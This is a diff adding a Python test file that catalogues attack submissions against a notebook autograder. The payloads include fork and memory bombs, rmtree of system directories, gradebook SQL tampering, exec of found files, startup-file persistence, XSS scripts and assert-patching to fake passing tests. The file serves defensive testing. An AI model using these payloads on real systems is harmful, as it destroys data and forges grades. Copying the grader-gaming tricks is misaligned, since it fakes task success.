@@ -1,0 +1,455 @@
+"""The attacks: each a submission that tries to gain points, to harm or to break the grader.
+
+Each has the score that it must get (of 10 points for code), a text that its reasons must hold,
+and how it may be run under stock nbgrader for comparison: freely, or not at all where it would
+harm the machine. "right" means that the student's functions are correct.
+"""
+
+import copy
+import json
+from dataclasses import dataclass, field
+
+import nbformat
+from nbformat.v4 import new_code_cell
+
+from tests.box import toy
+
+RIGHT, BLANK = "right", "blank"
+DOUBLED = 5  # the points of the first function: kept when the kernel dies after it
+
+
+@dataclass
+class Attack:
+    """One attack on the toy exercise."""
+
+    name: str
+    what: str
+    score: float
+    make: object = None  # function (notebook) -> notebook, text or bytes
+    base: str = BLANK
+    reason: str = ""
+    stock: bool = True  # may be run under stock nbgrader, inside an outer box
+    cells: list = field(default_factory=list)  # code to insert, by place: "start", "middle", "end"
+
+    def submission(self, workspace):
+        """Return the submission: a notebook, text or bytes."""
+        notebook = toy.answered(workspace) if self.base == RIGHT else toy.release(workspace)
+        for place, source in self.cells:
+            cell = new_code_cell(source.replace("WORKSPACE", str(workspace.path)))
+            if place == "instead":
+                notebook.cells[_index(notebook, "double")].source = source
+                notebook.cells[_index(notebook, "mean_forecast")].source = "pass"
+                continue
+            at = {"start": 0, "middle": _index(notebook, "mean_forecast"), "end": 99}[place]
+            notebook.cells.insert(at, cell)
+        return self.make(notebook) if self.make else notebook
+
+
+def _name(cell):
+    return cell.metadata.get("nbgrader", {}).get("grade_id", "")
+
+
+def _index(notebook, name):
+    return next(i for i, cell in enumerate(notebook.cells) if _name(cell) == name)
+
+
+def _tests(notebook):
+    return [cell for cell in notebook.cells if _name(cell).startswith("test_")]
+
+
+def _each_test(change):
+    """Return a maker that applies change to each test cell."""
+
+    def make(notebook):
+        for cell in _tests(notebook):
+            change(cell)
+        return notebook
+
+    return make
+
+
+def _edit(cell):
+    cell.source = "pass"
+
+
+def _more_points(cell):
+    cell.metadata.nbgrader.points = 100
+
+
+def _flip(**flags):
+    return _each_test(lambda cell: cell.metadata.nbgrader.update(flags))
+
+
+def _turn(kind):
+    def change(cell):
+        cell.cell_type = kind
+        cell.pop("outputs", None)
+        cell.pop("execution_count", None)
+
+    return _each_test(change)
+
+
+def _tag(*tags):
+    return _each_test(lambda cell: cell.metadata.update(tags=list(tags)))
+
+
+def _delete(notebook):
+    notebook.cells = [cell for cell in notebook.cells if cell not in _tests(notebook)]
+    return notebook
+
+
+def _copy(notebook):
+    twin = copy.deepcopy(_tests(notebook)[0])
+    twin.id = "twin"
+    notebook.cells.append(twin)
+    return notebook
+
+
+def _invent(notebook):
+    cell = new_code_cell("pass", id="bonus")
+    cell.metadata["nbgrader"] = dict(_tests(notebook)[0].metadata.nbgrader, grade_id="bonus",
+                                     points=100)  # fmt: skip
+    notebook.cells.append(cell)
+    return notebook
+
+
+def _kernelspec(notebook):
+    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}
+    notebook.metadata["language_info"] = {"name": "bash", "version": {"x": [1] * 50}}
+    return notebook
+
+
+def _strip(notebook):
+    for cell in notebook.cells:
+        cell.metadata = nbformat.from_dict({})
+    notebook.metadata = nbformat.from_dict({})
+    return notebook
+
+
+def _strip_ids(notebook):
+    notebook = _strip(notebook)
+    for cell in notebook.cells:
+        cell.pop("id")
+    notebook.nbformat_minor = 4
+    return notebook
+
+
+def _version_3(notebook):
+    with_metadata = nbformat.convert(notebook, 3)
+    return json.dumps(with_metadata)
+
+
+def _strange_ids(notebook):
+    for number, name in enumerate(
+        ("dоuble", "double\u200b", "ｄouble", "x" * 10_000, "\ud800", "")
+    ):
+        cell = new_code_cell("def double(x):\n    return x", id=f"strange-{number}")
+        mark = dict(notebook.cells[_index(notebook, "double")].metadata.nbgrader, grade_id=name)
+        cell.metadata["nbgrader"] = mark
+        notebook.cells.insert(0, cell)
+    return json.dumps(notebook).encode()
+
+
+def _encoded(encoding, mark=b""):
+    def make(notebook):
+        notebook.cells[0].source = "# Toy, naïve"
+        return mark + json.dumps(notebook, ensure_ascii=False).encode(encoding)
+
+    return make
+
+
+def _junk_values(notebook):
+    data = json.loads(json.dumps(notebook))
+    data["cells"] += [{"cell_type": "code", "source": {"a": 1}, "metadata": 7}]
+    return json.dumps(data)
+
+
+ALWAYS_EQUAL = """
+class Yes(float):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __array__(self, *a, **k): return np.zeros(())
+    def __getattr__(self, name): return Yes()
+    def __call__(self, *a, **k): return Yes()
+def double(x): return Yes()
+def mean_forecast(*a, **k): return Yes()
+answer_to_all = Yes()
+"""
+ARRAY_TRICKS = """
+class Yes(np.ndarray):
+    def __eq__(self, other): return np.ones(np.shape(other), bool)
+    def __array_function__(self, *a, **k): return True
+    def __array_ufunc__(self, *a, **k): return np.zeros(())
+def double(x): return np.zeros(x.shape, x.dtype).view(Yes)
+def mean_forecast(*a, **k): return np.zeros(()).view(Yes)
+"""
+FORGED = """
+import json, sys
+wire = sys.modules["wire"]
+answers = iter([
+    '{"return": null}', '{"call": 0, "given": [[], {"dict": []}]}', '{"call": "exit", "given": 3}',
+    '[]', 'not json', '{"return": {"yours": 0}}', '{"return": {"mine": ["x"]}}',
+    '{"return": {"array": ["|O", [1], "AAAA"]}}', '{"raise": ["SystemExit", "", ""]}',
+    '{"raise": ["AssertionError"]}', '{"return": ' + '[' * 100000 + ']' * 100000 + '}',
+])
+def serve_call(text, namespace, ask):
+    while True:
+        ask(next(answers, '{"return": true}'))
+wire.serve_call = serve_call
+"""
+MALFORMED = """
+import sys
+wire = sys.modules["wire"]
+wire._pack = lambda array: ["<f8", [10**12], "AAAAAAAAAAA="]
+def double(x): return 2 * x
+"""
+LATER = "import sys; sys.exit()"
+FORKS = """
+import os, time
+for _ in range(2000):
+    try:
+        if os.fork() == 0:
+            while True:
+                time.sleep(1)
+    except OSError as error:
+        print("held:", error)
+        break
+"""
+FORK_BOMB = """
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+"""
+FAMILY_BOMB = """
+import os, time
+for _ in range(12):
+    if os.fork() == 0:
+        block = b"x" * (400 * 2**20)
+        time.sleep(60)
+        os._exit(0)
+time.sleep(60)
+"""
+BIG_OUTPUT = """
+import sys
+for _ in range(3000):
+    sys.stdout.write("x" * 100_000)
+"""
+BIG_DISPLAY = """
+from IPython.display import HTML, display
+for _ in range(20):
+    display(HTML("x" * 15_000_000))
+"""
+SCRIPT = """
+from IPython.display import HTML, Javascript, SVG, display
+display(HTML("<b>bold</b><script>alert('zanzibar')</script><img src=x onerror=alert(1)>"))
+display(Javascript("alert('zanzibar')"))
+display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>alert('zanzibar')</script></svg>"))
+display({"text/markdown": "<script>alert('zanzibar')</script>"}, raw=True)
+display({"text/latex": "<script>alert('zanzibar')</script>"}, raw=True)
+print("<script>alert('zanzibar')</script>")
+raise ValueError("<script>alert('zanzibar')</script>")
+"""
+NETWORK = """
+import socket
+for address in (("127.0.0.1", PORT), ("1.1.1.1", 80)):
+    try:
+        socket.create_connection(address, 2).sendall(b"hello")
+        print("reached", address)
+    except OSError as error:
+        print("no:", error)
+try:
+    print(socket.gethostbyname("example.org"))
+except OSError as error:
+    print("no:", error)
+"""
+READ = """
+import os
+found = [os.path.join(d, f) for d, _, files in os.walk("/") for f in files
+         if f.endswith(".ipynb") or f in ("gradebook.db", "seed.secret")]
+found = [f for f in found if "site-packages" not in f]
+for path in ("WORKSPACE", "WORKSPACE/source", "WORKSPACE/../solutions"):
+    try:
+        found += os.listdir(path)
+    except OSError as error:
+        print("no:", error)
+print("found", found)
+for path in found:
+    exec("".join(line for line in open(path)))
+"""
+GRADEBOOK = """
+import sqlite3
+for path in ("WORKSPACE/gradebook.db", "gradebook.db", "/box/gradebook.db"):
+    try:
+        with sqlite3.connect(path) as book:
+            book.execute("update grade set auto_score = 100, manual_score = 100")
+            print("written")
+    except sqlite3.Error as error:
+        print("no:", error)
+"""
+DELETE = """
+import os, shutil
+for path in ("WORKSPACE", "/work", "/home", "/root", "/tmp", "/box"):
+    shutil.rmtree(path, ignore_errors=True)
+"""
+DAEMON = """
+import os, subprocess
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "86399"])
+    os._exit(0)
+subprocess.Popen(["nohup", "sleep", "86399"], start_new_session=True)
+"""
+STARTUP = """
+import os, pathlib, site, sys
+for home in {os.path.expanduser("~"), "/root", os.environ.get("IPYTHONDIR", "~"), *sys.path}:
+    for name in ("profile_default/startup/00.py", ".ipython/profile_default/startup/00.py",
+                 "sitecustomize.py", "usercustomize.py", "evil.pth"):
+        try:
+            path = pathlib.Path(home, name)
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text("import builtins; builtins.zanzibar = 1")
+        except OSError:
+            pass
+"""
+TRANSFORMER = """
+shell = get_ipython()
+shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
+"""
+AST_TRANSFORMER = """
+import ast
+class Calm(ast.NodeTransformer):
+    def visit_Assert(self, node): return ast.Pass()
+    def visit_Expr(self, node): return ast.Pass()
+    def visit_Raise(self, node): return ast.Pass()
+get_ipython().ast_transformers.append(Calm())
+"""
+PATCHED = """
+import builtins, sys, traceback
+import numpy.testing
+for name in dir(numpy.testing):
+    if name.startswith("assert"):
+        setattr(numpy.testing, name, lambda *a, **k: None)
+np.array_equal = np.allclose = np.isclose = lambda *a, **k: True
+np.testing = numpy.testing
+class Calm(Exception):
+    def __new__(cls, *a): raise SystemExit(0)
+builtins.AssertionError = Calm
+sys.excepthook = traceback.print_exception = lambda *a, **k: None
+shell = get_ipython()
+shell.showtraceback = shell._showtraceback = lambda *a, **k: None
+shell.displayhook.__class__.__call__ = lambda *a, **k: None
+shell.run_cell = shell.run_cell_async = lambda *a, **k: None
+"""
+REDEFINED = """
+import builtins
+class Anything:
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+    def __eq__(self, other): return True
+    def __len__(self): return 1
+    def __iter__(self): return iter([self])
+np = rng = seen = before = x = series = given = answer = Anything()
+builtins.len = builtins.isinstance = builtins.abs = builtins.float = lambda *a: True
+"""
+LINKS = """
+import os
+for place in ("/box/exercises/link", "/tmp/link", "link.ipynb"):
+    try:
+        os.symlink("WORKSPACE/gradebook.db", place)
+        print(open(place, "rb").read(16))
+    except OSError as error:
+        print("no:", error)
+"""
+
+ATTACKS = [
+    Attack("edited_test", "each test replaced by pass", 0, _each_test(_edit)),
+    Attack("changed_points", "each test worth 100", 10, _each_test(_more_points), RIGHT),
+    Attack("flipped_grade", "grade: false on the tests", 0, _flip(grade=False)),
+    Attack("flipped_solution", "solution: true on the tests", 0,
+           lambda notebook: _flip(solution=True, locked=False)(_each_test(_edit)(notebook))),
+    Attack("flipped_locked", "locked: false, and edited", 0,
+           lambda notebook: _flip(locked=False)(_each_test(_edit)(notebook))),
+    Attack("test_to_markdown", "tests turned into text", 0, _turn("markdown")),
+    Attack("test_to_raw", "tests turned raw", 0, _turn("raw")),
+    Attack("deleted_test", "tests deleted", 0, _delete),
+    Attack("deleted_test_right", "tests deleted, the answer correct", 10, _delete, RIGHT),
+    Attack("copied_test", "a test copied", 10, _copy, RIGHT),
+    Attack("invented_test", "an own test of 100 points", 0, _invent),
+    Attack("skip_execution", "the tag that makes a test be skipped", 0, _tag("skip-execution")),
+    Attack("other_tags", "tags that hide or excuse", 0,
+           _tag("raises-exception", "remove-cell", "student-only", "skip-execution")),
+    Attack("forged_kernelspec", "another kernel, strange metadata", 10, _kernelspec, RIGHT),
+    Attack("stripped_metadata", "metadata dropped by an editor", 10, _strip, RIGHT),
+    Attack("stripped_ids", "metadata and cell ids dropped", 10, _strip_ids, RIGHT),
+    Attack("input_transformer", "rewrites each later cell to pass", 0,
+           cells=[("start", TRANSFORMER)]),
+    Attack("ast_transformer", "removes each later assert", 0, cells=[("start", AST_TRANSFORMER)]),
+    Attack("patched_tools", "assert, numpy.testing, traceback, display hook", 0,
+           cells=[("middle", PATCHED)]),
+    Attack("always_equal", "an object equal to anything", 0, cells=[("instead", ALWAYS_EQUAL)],
+           reason="AssertionError"),
+    # 2 points: zeros of the right kind and shape are what that one check asks for.
+    Attack("array_tricks", "__array__, __eq__, an array subclass", 2,
+           cells=[("instead", ARRAY_TRICKS)]),
+    Attack("forged_answer", "S answers with forged messages", 0, cells=[("start", FORGED)]),
+    Attack("malformed_array", "an array of 10**12 numbers in 8 bytes", 0,
+           cells=[("start", "import numpy as np\n" + MALFORMED)], reason="came with 8 bytes"),
+    Attack("oversized_array", "an answer of 160 MB", 0, reason="too much data",
+           cells=[("instead", "def double(x): return np.zeros(20_000_000)")]),
+    Attack("redefined", "np, rng, len and more redefined", 0, cells=[("instead", REDEFINED)]),
+    Attack("sys_exit", "sys.exit in a cell", 10, base=RIGHT, cells=[("middle", LATER)]),
+    Attack("os_exit", "os._exit in a cell", DOUBLED, base=RIGHT, reason="it died",
+           cells=[("middle", "import os; os._exit(0)")]),
+    Attack("killed_parent", "kills its parent, its group, everything", DOUBLED, base=RIGHT,
+           reason="it died", stock=False,
+           cells=[("middle", "import os, signal\nfor p in (os.getppid(), 1, -1, 0):\n"
+                             "    try: os.kill(p, signal.SIGKILL)\n"
+                             "    except OSError as e: print(e)\n")]),
+    Attack("infinite_loop", "while True", 10, base=RIGHT, cells=[("middle", "while True: pass")]),
+    Attack("stubborn_loop", "a loop that ignores SIGINT", DOUBLED, base=RIGHT, stock=False,
+           reason="could not be interrupted",
+           cells=[("middle", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
+                             "while True:\n    try:\n        while True: pass\n"
+                             "    except KeyboardInterrupt: pass")]),
+    Attack("slow_function", "a function that never returns", 9, base=RIGHT,
+           reason="took too long", cells=[("middle", "def double(x):\n    while True: pass")]),
+    Attack("memory_bomb", "takes memory until told to stop", 10, base=RIGHT, stock=False,
+           cells=[("middle", "blocks = []\nwhile True: blocks.append(bytearray(10**8))"),
+                  ("middle", "blocks = None")]),
+    Attack("family_bomb", "12 processes of 400 MB", DOUBLED, base=RIGHT, stock=False,
+           reason="used more than 3 GB", cells=[("middle", FAMILY_BOMB)]),
+    Attack("fork_crowd", "2,000 idle children", 10, base=RIGHT, stock=False,
+           cells=[("end", FORKS)]),
+    Attack("fork_bomb", "children that fork for ever", 10, base=RIGHT, stock=False,
+           cells=[("end", FORK_BOMB)]),
+    Attack("big_output", "300 MB of print", 10, base=RIGHT, stock=False,
+           cells=[("middle", BIG_OUTPUT)]),
+    Attack("big_display", "300 MB of HTML", 10, base=RIGHT, stock=False,
+           cells=[("middle", BIG_DISPLAY)]),
+    Attack("script_in_output", "scripts for the feedback page", 10, base=RIGHT,
+           cells=[("middle", SCRIPT)]),
+    Attack("network", "calls home", 10, base=RIGHT, cells=[("middle", NETWORK)]),
+    Attack("read_solution", "looks for solution, tests, others' work", 0, cells=[("start", READ)]),
+    Attack("write_gradebook", "writes 100 into each grade", 0, cells=[("start", GRADEBOOK)]),
+    Attack("delete_work", "deletes all it can reach", 10, base=RIGHT, stock=False,
+           cells=[("middle", DELETE)]),
+    Attack("daemon", "processes that outlive the kernel", 10, base=RIGHT, stock=False,
+           cells=[("middle", DAEMON)]),
+    Attack("startup_file", "files that a later kernel would run", 10, base=RIGHT, stock=False,
+           cells=[("middle", STARTUP)]),
+    Attack("links_inside", "links to the gradebook", 10, base=RIGHT, cells=[("middle", LINKS)]),
+    Attack("bad_json", "cut off in the middle", 0, lambda nb: json.dumps(nb)[:-9], RIGHT,
+           "it is not JSON"),
+    Attack("empty_file", "an empty file", 0, lambda nb: b"", reason="the file is empty"),
+    Attack("not_a_notebook", "JSON, but a list", 0, lambda nb: "[1, 2]", reason="not a notebook"),
+    Attack("junk_values", "a cell whose source is a dict", 10, _junk_values, RIGHT),
+    Attack("byte_order_mark", "begins with a BOM", 10, _encoded("utf-8", b"\xef\xbb\xbf"), RIGHT,
+           "byte order mark"),
+    Attack("latin_1", "saved as Latin-1", 10, _encoded("latin-1"), RIGHT, "Latin-1"),
+    Attack("nbformat_3", "saved in the old format", 10, _version_3, RIGHT, "old format"),
+    Attack("strange_ids", "ids that look like double, or are huge", 10, _strange_ids, RIGHT),
+]  # fmt: skip
